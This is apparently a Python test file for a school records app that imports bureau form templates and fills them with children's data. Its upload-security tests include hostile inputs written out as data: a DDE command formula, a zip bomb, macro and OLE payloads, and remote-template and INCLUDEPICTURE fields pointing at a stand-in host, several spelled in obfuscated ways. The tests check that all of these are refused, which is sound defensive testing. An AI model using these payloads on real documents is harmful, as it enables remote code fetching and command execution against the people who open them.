"""The bureau's own form: taken in, guessed, corrected, tried, filled; what is not known is named; what bites is refused."""

import io
import zipfile
from collections.abc import Callable
from typing import Any
from uuid import UUID

import docx
import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from oasis.kit.refused import Refused
from oasis.papers.bureau import actions, opening
from oasis.papers.bureau.blanks import blanks_in
from oasis.papers.bureau.excel_rows import moved
from oasis.papers.bureau.export import Wanted, export_form, paper_of, ready
from oasis.papers.bureau.guessing import guess
from oasis.papers.bureau.queries import kept, opened_for_filling, opened_for_setting, usable
from oasis.papers.bureau.ties import Tie
from oasis.papers.leave import ask_leave
from oasis.papers.models import Template, TemplateFile
from oasis.papers.places import place_of
from oasis.people import approvals
from oasis.people.models import AccessRules, Trail
from tests.papers.forms import census_book, plain_book, registration, roster_book
from tests.world import TODAY, World

LARGE = 10 << 20


def received(world: World, data: bytes, who: str = "li", kind: str = "", title: str = "县里的表") -> Template:
    return actions.receive_form(
        world.scope(who), school=world.schools["青河县"], title=title, data=data, largest=LARGE, kind=kind
    )


def ties(world: World, template: Template) -> dict[str, Tie]:
    opened = opened_for_setting(world.scope("li"), template.pk)
    assert opened
    return {tie.words: tie for tie in opened.ties}


def settle(world: World, template: Template, **others: tuple[str, str, str, str]) -> None:
    """Leave what nobody knows to a hand, tie the rest as told by label, try it, put it in use."""
    li = world.scope("li")
    opened = opened_for_setting(li, template.pk)
    assert opened
    chosen = {tie.key: ("hand", "", "", "") for tie in opened.unknown}
    chosen |= {tie.key: others[tie.label] for tie in opened.ties if tie.label in others}
    actions.tie_form(
        li, template=template.pk, number=opened.file.number, chosen=chosen, empties="dash", title=template.title
    )
    actions.try_form(li, template=template.pk)
    actions.use_form(li, template=template.pk)


def wanted(world: World, template: Template, **more: Any) -> Wanted:
    return Wanted(template.pk, more.pop("place", world.klasses["三1"].pk), more.pop("whom", "cared"), **more)


def one(world: World, template: Template, child: str = "lin", who: str = "zhao", **more: Any) -> Any:
    made = export_form(
        world.scope(who), wanted=wanted(world, template, child=world.children[child].pk, **more), purpose="report"
    )
    return made, docx.Document(io.BytesIO(made.data))


def words_of(document: Any) -> list[str]:
    return [cell.text for table in document.tables for row in table.rows for cell in row.cells]


def test_the_registration_form_is_read_by_the_words_beside_its_cells(world: World) -> None:
    template = received(world, registration())
    told = {words: tie.field or tie.what for words, tie in ties(world, template).items()}
    assert template.kind == "child"
    assert {
        "姓名": "name", "性别": "sex", "民族": "ethnic", "出生年月": "birth_on", "公民身份证号码": "id_number", "现居住地": "address",
        "身体情况": "health", "是否学校寄宿": "boarding", "父亲 · 姓名": "father.name", "父亲 · 身份证号": "father.id_number",
        "父亲 · 当前务工地点": "father.place", "父亲 · 联系电话": "father.phone", "委托监护人姓名": "carer.name",
        "与被监护人关系": "carer.relation", "家庭成员1 · 称谓": "member1.relation", "家庭成员2 · 姓名": "member2.name",
        "家庭成员 · 帮扶教师": "helper", "家庭成员 · 班主任": "homeroom", "填报单位（盖章）": "school", "填报日期": "today",
    }.items() <= told.items()  # fmt: skip
    assert told["家庭成员 · 监护人签字"] == "hand"
    assert told["家庭成员 · 鞋码"] == "", "what nobody knows is named, not guessed"


def test_a_form_is_used_only_after_every_place_is_decided_and_tried(world: World) -> None:
    li, template = world.scope("li"), received(world, registration())
    with pytest.raises(Refused) as refused:
        actions.try_form(li, template=template.pk)
    assert refused.value.code == "unknown"
    with pytest.raises(Refused) as refused:
        actions.use_form(li, template=template.pk)
    assert refused.value.code == "untried"
    assert usable(world.scope("zhao")) == []
    settle(world, template)
    assert [row.pk for row, _file in usable(world.scope("zhao"))] == [template.pk]
    assert usable(world.scope("chen")) == [], "the next school does not see it"


def test_one_child_s_form_is_filled_and_what_is_not_known_is_named(world: World) -> None:
    template = received(world, registration())
    settle(world, template, 鞋码=("fixed", "", "", "见附页"))
    lin = world.children["lin"]
    made, document = one(world, template)
    words = words_of(document)
    assert lin.name in words
    assert lin.id_number in words
    assert "见附页" in words
    assert any("☑女" in text or "☑男" in text for text in words)
    assert world.schools["青河县"].name in document.paragraphs[1].text
    assert "2026年11月23日" in document.paragraphs[1].text
    assert "赵" in document.sections[0].footer.paragraphs[-1].text, "who took it out stands on every page"
    assert lin.name not in made.name
    found = ready(world.scope("zhao"), wanted(world, template))
    gaps = {child.name: lines for child, lines in found.wanting if child}
    assert any("没有登记" in line for line in gaps[lin.name])
    assert "—" in words


def test_counts_are_written_into_a_word_form_and_a_parent_s_place_is_the_parent_s(world: World) -> None:
    also = [("父亲姓名", 1), ("", 1), ("务工地点", 1), ("", 1), ("本学期家访次数", 1), ("", 1)]
    template = received(world, registration(also=also))
    told = {words: tie.field for words, tie in ties(world, template).items()}
    assert told["本学期家访次数"] == "times.visit"
    assert told["务工地点"] == "father.place", "not where both parents work"
    settle(world, template)
    _made, document = one(world, template)
    row = [cell.text for cell in document.tables[0].rows[3].cells]
    assert row[5] == "0", "a count is no word of its own"


def test_gaps_may_be_marked_and_numbers_hidden(world: World) -> None:
    template = received(world, plain_book(("姓名", ""), ("身份证号", ""), ("籍贯", "")))
    settle(world, template)
    Template.objects.everywhere(why="a test").update(empties="gap")
    export = export_form(
        world.scope("zhao"), wanted=wanted(world, template, child=world.children["lin"].pk, hide=True), purpose="report"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(export.data)).active
    assert sheet["B3"].value == "【待补：籍贯】"
    assert "****" in sheet["B2"].value
    assert world.children["lin"].id_number[-4:] == sheet["B2"].value[-4:]
    assert sheet.oddFooter.left.text.startswith("赵")


def test_the_words_of_a_list_are_read_apart_from_its_sums() -> None:
    heads = ("姓名", "监护人姓名", "联系电话", "家庭住址")
    cells = [[2, n, 1, 1, head, True] for n, head in enumerate(heads)] + [
        [row, n, 1, 1, "", True] for row in (3, 4) for n in range(4)
    ]
    cells += [[5, 0, 1, 1, "合计", True], *([5, n, 1, 1, "", True] for n in range(1, 4))]
    told = {
        "tables": [{"name": "", "rows": 6, "columns": 4, "cells": cells}],
        "paragraphs": [],
        "order": [],
        "remarks": [],
    }
    kind, spots, _bodies = guess(told)
    assert kind == "roster"
    assert [spot.guess for spot in spots if spot.listed] == ["name", "carer.name", "carer.phone", "address"]
    assert all(spot.by_hand or spot.guess == "count" for spot in spots if not spot.listed)


def test_a_roster_grows_by_rows_and_keeps_its_foot(world: World) -> None:
    template = received(world, roster_book(rows=2))
    assert template.kind == "roster"
    told = {words: tie.field for words, tie in ties(world, template).items()}
    assert (told["序号"], told["姓名"], told["父亲 · 务工地"], told["母亲 · 电话"], told["监护人 · 姓名"]) == (
        "n", "name", "father.place", "mother.phone", "carer.name",
    )  # fmt: skip
    settle(world, template)
    export = export_form(
        world.scope("li"),
        wanted=wanted(world, template, place=world.schools["青河县"].pk, whom="all"),
        purpose="report",
    )
    sheet = openpyxl.load_workbook(io.BytesIO(export.data)).active
    names = [sheet.cell(row, 2).value for row in range(5, sheet.max_row + 1)]
    count = len(
        ready(world.scope("li"), wanted(world, template, place=world.schools["青河县"].pk, whom="all")).children
    )
    assert count > 2, "more children than the form has rows"
    foot = 5 + count
    assert sheet.cell(foot, 1).value == "合计"
    assert sheet.cell(foot, 2).value == f"=COUNTA(B5:B{foot - 1})"
    assert all(names[:count])
    assert sheet.cell(foot - 1, 4).border.left.style == "thin", "new rows keep the frame"
    assert sheet.row_dimensions[foot + 1].height == 28
    assert f"A{foot + 1}:K{foot + 1}" in {str(one) for one in sheet.merged_cells.ranges}
    assert [sheet.cell(row, 1).value for row in range(5, foot)] == list(range(1, count + 1))
    assert export.name.endswith(".xlsx")


def test_figures_are_counted_and_the_form_s_own_sums_stay(world: World) -> None:
    template = received(world, census_book())
    assert template.kind == "figures"
    told = {words: (tie.field, tie.cut) for words, tie in ties(world, template).items()}
    assert told["三年级 · 男"] == ("figure.left-boys", "grade:3")
    assert told["三年级 · 学生总数"] == ("figure.pupils", "grade:3")
    assert told["家访人次"] == ("figure.visit-parts", "")
    settle(world, template)
    export = export_form(
        world.scope("li"), wanted=wanted(world, template, place=world.schools["青河县"].pk), purpose="report"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(export.data)).active
    assert sheet["C6"].value == "=SUM(C4:C5)"
    assert isinstance(sheet["C5"].value, int)
    assert sheet["C5"].value == sheet["D5"].value + sheet["E5"].value
    assert world.schools["青河县"].name in sheet["A2"].value


def test_a_class_gets_a_file_for_each_child_and_no_name_of_a_file_is_a_child_s(world: World) -> None:
    template = received(world, registration())
    settle(world, template)
    export = export_form(world.scope("zhao"), wanted=wanted(world, template, whom="all"), purpose="report")
    with zipfile.ZipFile(io.BytesIO(export.data)) as archive:
        names = archive.namelist()
        people = archive.read("000名单.txt").decode("utf-8-sig")
    assert len(names) > 2
    assert world.children["lin"].name in people
    assert not any(child.name in name for name in names for child in world.children.values())
    lines = Trail.objects.everywhere(why="a test").filter(deed="export.template")
    assert [line.detail for line in lines] == [f"{len(names) - 1} report"]


def test_many_children_need_a_leader_s_word_and_one_does_not(world: World) -> None:
    template = received(world, registration())
    settle(world, template)
    AccessRules.objects.everywhere(why="a test").filter(school=world.schools["青河县"]).update(approve_exports=True)
    with pytest.raises(Refused) as refused:
        export_form(world.scope("zhao"), wanted=wanted(world, template), purpose="report")
    assert refused.value.code == "leave"
    assert one(world, template)
    place = place_of(world.schools["青河县"], world.klasses["三1"], TODAY)
    row = ask_leave(
        world.scope("zhao"), paper=paper_of(template), place=place, whom="cared", purpose="上报", until_on=TODAY
    )
    approvals.decide(world.scope("li"), approval=row.pk, yes=True)
    assert export_form(world.scope("zhao"), wanted=wanted(world, template), purpose="report").data


def test_out_of_reach_nothing_is_filled_or_set(world: World) -> None:
    template = received(world, registration())
    settle(world, template)
    for who, place in (("qian", "三1"), ("chen", "三1"), ("feng", "三1")):
        with pytest.raises(Refused) as refused:
            export_form(
                world.scope(who), wanted=wanted(world, template, place=world.klasses[place].pk), purpose="report"
            )
        assert refused.value.code == "out-of-reach"
    assert opened_for_setting(world.scope("zhao"), template.pk) is None
    assert opened_for_filling(world.scope("feng"), template.pk) is None
    with pytest.raises(Refused):
        actions.retire_form(world.scope("zhao"), template=template.pk)
    assert kept(world.scope("feng")) == []


def test_a_newer_file_keeps_what_was_tied_where_the_words_are_the_same(world: World) -> None:
    template = received(world, registration())
    settle(world, template, 民族=("fixed", "", "", "汉"), 鞋码=("hand", "", "", ""))
    actions.replace_form(
        world.scope("li"),
        template=template.pk,
        data=registration(also=[("籍贯", 1), ("", 2), ("胎次", 1), ("", 2)]),
        largest=LARGE,
    )
    told = ties(world, template)
    assert (told["民族"].what, told["民族"].text) == ("fixed", "汉")
    assert told["家庭成员 · 鞋码"].what == "hand"
    assert told["籍贯"].field == "native_place"
    assert told["胎次"].what == ""
    assert one(world, template)[0].data, "until the new one is in use, the old one serves"
    settle(world, template)
    states = TemplateFile.objects.everywhere(why="a test").filter(template=template).order_by("number")
    assert [file.state for file in states] == ["old", "used"]


def test_a_correction_of_a_form_in_use_waits_until_it_is_tried(world: World) -> None:
    template = received(world, plain_book(("姓名", ""), ("班级", "")))
    settle(world, template)
    li = world.scope("li")
    actions.tie_form(
        li,
        template=template.pk,
        number=1,
        chosen={"t0r1c1": ("fixed", "", "", "三班")},
        empties="dash",
        title="县里的表",
    )
    pk = world.children["lin"].pk
    before = export_form(world.scope("zhao"), wanted=wanted(world, template, child=pk), purpose="report").data
    assert openpyxl.load_workbook(io.BytesIO(before)).active["B2"].value != "三班"
    actions.try_form(li, template=template.pk)
    actions.use_form(li, template=template.pk)
    after = export_form(world.scope("zhao"), wanted=wanted(world, template, child=pk), purpose="report").data
    assert openpyxl.load_workbook(io.BytesIO(after)).active["B2"].value == "三班"


def test_retired_forms_are_kept_and_not_offered(world: World) -> None:
    template = received(world, plain_book(("姓名", ""), ("班级", "")))
    settle(world, template)
    actions.retire_form(world.scope("li"), template=template.pk)
    assert usable(world.scope("zhao")) == []
    assert [row.pk for row, _file in kept(world.scope("li"))] == [template.pk]
    actions.retire_form(world.scope("li"), template=template.pk, back=True)
    assert usable(world.scope("zhao"))


def test_words_that_begin_like_a_formula_stay_words(world: World) -> None:
    template = received(world, plain_book(("姓名", ""), ("备注", "")))
    settle(world, template, 备注=("fixed", "", "", "=cmd|' /C calc'!A0"))
    data = export_form(
        world.scope("zhao"), wanted=wanted(world, template, child=world.children["lin"].pk), purpose="report"
    ).data
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["B2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def macro(data: bytes, name: str = "xl/vbaProject.bin", body: bytes = b"x") -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, body)
    return out.getvalue()


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"0" * (60 << 20))
    return out.getvalue()


OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HOLD = {
    "empty": b"  ", "not-a-form": b"%PDF-1.4 x", "damaged": plain_book(("姓名", ""))[:900], "bomb": bomb(),
    "old-word": OLD + "WordDocument".encode("utf-16-le"), "old-book": OLD + "Workbook".encode("utf-16-le"),
    "password": OLD + "EncryptedPackage".encode("utf-16-le"), "macros": macro(plain_book(("姓名", ""))),
    "active": macro(plain_book(("姓名", "")), "xl/embeddings/oleObject1.bin"),
}  # fmt: skip


@pytest.mark.parametrize("code", HOLD)
def test_files_that_are_no_form_are_refused_in_words(code: str) -> None:
    with pytest.raises(Refused) as refused:
        opening.ending_of(HOLD[code], largest=LARGE)
    assert refused.value.code == f"form-{code}"
    assert "请" in refused.value.message


def test_a_form_that_would_fetch_something_is_refused(world: World) -> None:
    for formula in ('=WEBSERVICE("http://a")', "=cmd|' /C calc'!A0", "=[1]Sheet1!A1"):
        with pytest.raises(Refused) as refused:
            received(world, plain_book(("姓名", formula)))
        assert refused.value.code == "form-active"


RELS, BODY = "word/_rels/document.xml.rels", "word/document.xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
FAR = f'Id="r9" Type="{OFFICE}attachedTemplate" Target="http://a.example/a.dotm" TargetMode='
FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def in_pieces(*pieces: str) -> str:
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"<w:p>{FIELD.format(said)}</w:p>"


def word(part: str = "", before: str = "", written: str = "", code: str = "utf-8") -> bytes:
    """A Word form, with something written into one of its parts."""
    document, out = docx.Document(), io.BytesIO()
    document.add_table(1, 2).cell(0, 0).text = "姓名"
    document.save(out)
    made = io.BytesIO()
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            body = old.read(name)
            if name == part:
                text = body.decode().replace(
                    before, written + before if before.startswith("</") else before + written, 1
                )
                body = text.replace("UTF-8", code.upper(), 1).encode(code)
            new.writestr(name, body)
    return made.getvalue()


def tied(words: str, code: str = "utf-8") -> bytes:
    return word(RELS, "</Relationships>", words, code)


FETCH = {
    "as it is usually written": tied(f'<Relationship {FAR}"External"/>'),
    "single quotes": tied(f"<Relationship {FAR}'External'/>"),
    "a space": tied(f'<Relationship {FAR} "External"/>'),
    "an escape": tied(f'<Relationship {FAR}"&#69;xternal"/>'),
    "a prefix": tied(f'<x:Relationship xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships" {FAR}"External"/>'),
    "another encoding": tied(f'<Relationship {FAR}"External"/>', "utf-16"),
    "a file it carries": tied(f'<Relationship Id="r9" Type="{OFFICE}oleObject" Target="a.bin"/>'),
    "a field in one piece": word(BODY, "<w:body>", in_pieces('INCLUDEPICTURE "http://a.example/x"')),
    "a field in pieces": word(BODY, "<w:body>", in_pieces("INCLUDE", 'PICTURE "http://a.example/x"')),
    "a field in small letters": word(BODY, "<w:body>", in_pieces(' includetext "http://a.example/x"')),
    "a field with an escape": word(BODY, "<w:body>", in_pieces("&#68;DEAUTO c a b")),
    "a linked sheet": word(BODY, "<w:body>", in_pieces(' LINK Excel.Sheet.12 "http://a.example/x"')),
    "a simple field": word(BODY, "<w:body>", '<w:p><w:fldSimple w:instr="IMPORT x"/></w:p>'),
    "a declaration": word(BODY, "?>", f'<!--{"x" * 3000}--><!DOCTYPE w:document [<!ENTITY a "b">]>'),
}  # fmt: skip


@pytest.mark.parametrize("how", FETCH)
def test_what_would_fetch_something_is_refused_however_it_is_spelled(world: World, how: str) -> None:
    with pytest.raises(Refused) as refused:
        received(world, FETCH[how])
    assert refused.value.code == "form-active"


@pytest.mark.parametrize(
    "fine", ["PAGE", "HYPERLINK &quot;http://www.moe.gov.cn&quot;", "DATE \\@ &quot;yyyy&quot;", "REF LINKED"]
)
def test_the_fields_of_ordinary_forms_are_let_in(world: World, fine: str) -> None:
    received(world, word(BODY, "<w:body>", in_pieces(fine)))


def test_a_large_file_and_one_with_children_in_it_are_refused(world: World) -> None:
    with pytest.raises(Refused) as refused:
        opening.ending_of(plain_book(("姓名", "")), largest=100)
    assert refused.value.code == "form-too-large"
    with pytest.raises(Refused) as refused:
        received(world, plain_book(("姓名", ""), ("身份证号", world.children["lin"].id_number)))
    assert refused.value.code == "filled"
    with pytest.raises(Refused) as refused:
        received(world, plain_book(("姓名", "甲"), ("班级", "乙")))
    assert refused.value.code == "no-blank"


def test_blanks_within_words_are_found() -> None:
    assert [b.label for b in blanks_in("填报单位（盖章）：＿＿＿＿　填报日期：    年   月   日")] == [
        "填报单位（盖章）",
        "填报日期",
    ]
    assert [b.label for b in blanks_in("共___人，其中留守儿童____人")] == ["共", "其中留守儿童"]
    assert [b.options for b in blanks_in("是否寄宿：□是 □否   就学情况：□小学 □初中")] == [
        ("是", "否"),
        ("小学", "初中"),
    ]
    assert [b.options for b in blanks_in("男□ 女□")] == [("男", "女")]
    assert blanks_in("注：本表一式两份") == []
    assert blanks_in("联系电话：13800000000") == []


@pytest.mark.parametrize(
    ("formula", "then"),
    [
        ("=SUM(B5:B6)", "=SUM(B5:B9)"),
        ("=B7+$C$8", "=B10+$C$11"),
        ("=B5*2", "=B5*2"),
        ("=SUM(甲!B5:B6)", "=SUM(甲!B5:B6)"),
    ],
)
def test_formulas_follow_rows_that_are_put_in(formula: str, then: str) -> None:
    assert moved(formula, 6, 3) == then


def test_screens_walk_from_upload_to_file(world: World, login: Callable[[str], Client]) -> None:
    li = login("li")
    sent = li.post(
        reverse("settings-templates"), {"title": "县局登记表", "kind": "", "file": io.BytesIO(registration())}
    )
    assert sent.status_code == 302
    address = sent["Location"]
    page = li.get(address).content.decode()
    assert "这1格还没有认出" in page
    assert "鞋码" in page
    body: dict[str, str] = {"number": "1", "title": "县局登记表", "empties": "dash", "go": "try"}
    refused = li.post(address, body | {"w-t0r13c1": "fixed"})
    assert refused.status_code == 422
    assert "请填上要写的文字" in refused.content.decode()
    assert li.post(address, body | {"w-t0r13c1": "hand"}).status_code == 302
    assert "试填成功" in li.get(address).content.decode()
    pk = UUID(address.rstrip("/").rpartition("/")[2])
    act = reverse("settings-template-act", kwargs={"pk": pk})
    assert li.post(act, {"act": "sample"})["Content-Disposition"].startswith("attachment")
    assert li.post(act, {"act": "use"}).status_code == 302
    zhao = login("zhao")
    assert "县局登记表" in zhao.get(reverse("papers")).content.decode()
    fill = reverse("paper-template", kwargs={"pk": pk})
    assert zhao.get(fill).status_code == 200
    query = f"{fill}?place={world.klasses['三1'].pk}&whom=all"
    listed = zhao.get(query).content.decode()
    assert "没有登记" in listed
    lin = world.children["lin"]
    got = zhao.post(query, {"child": str(lin.pk), "purpose": "report"})
    assert got["Content-Type"].endswith("document")
    assert zhao.post(query, {"child": "", "purpose": ""}).status_code == 422
    assert zhao.get(f"{fill}?place={world.klasses['三2'].pk}&whom=all").status_code == 422
    wrong = li.post(reverse("settings-templates"), {"title": "旧表", "kind": "", "file": io.BytesIO(HOLD["old-word"])})
    assert (wrong.status_code, "另存为" in wrong.content.decode()) == (422, True)
    assert login("zhao").get(reverse("settings-templates")).status_code == 404
